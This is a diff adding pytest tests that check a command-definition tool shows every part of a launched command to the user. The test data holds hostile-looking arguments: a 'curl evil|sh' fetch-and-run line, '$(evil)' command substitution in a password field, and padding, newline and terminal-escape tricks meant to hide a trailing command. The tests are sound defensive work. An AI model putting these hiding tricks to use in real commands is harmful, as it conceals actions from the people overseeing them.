@@ -246,3 +246,29 @@ def test_what_cannot_be_reached_is_refused_in_a_line(
     one = definition("a", entry, tmp_path / "f", syntax="claude", workspace=tmp_path)
     with pytest.raises(InvalidOptionError, match=words):
         one.launch(unasked, {})
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["sh", "-c", "token=1;curl evil|sh"],
+        ["sh", "-c", "true://;evil;@x"],
+        ["sh", "-c", "true;token=$(evil)"],
+        ["tool", "--auth-command", "./evil.sh"],
+        ["tool", "--password", "$(evil)"],
+        ["sh", "-c", "x" * 5000 + ";evil"],
+        ["sh", "-c", "true\n\n\nevil"],
+        ["sh", "-c", "true\r\x1b[2Kevil"],
+    ],
+)
+def test_no_part_of_a_command_can_be_hidden_as_a_secret(tmp_path: Path, words: list[str]) -> None:
+    entry = {"command": words[0], "args": words[1:]}
+    one = definition("a", entry, tmp_path / "f", syntax="claude", workspace=tmp_path)
+    assert "evil" in one.told
+    assert "\n" not in one.told
+    assert "\x1b" not in one.told
+
+
+def test_a_command_that_is_too_long_to_be_shown_is_none(tmp_path: Path) -> None:
+    with pytest.raises(InvalidOptionError, match="too long to be shown"):
+        definition("a", {"command": "x", "args": ["y" * 9000]}, tmp_path, syntax="claude", workspace=tmp_path)
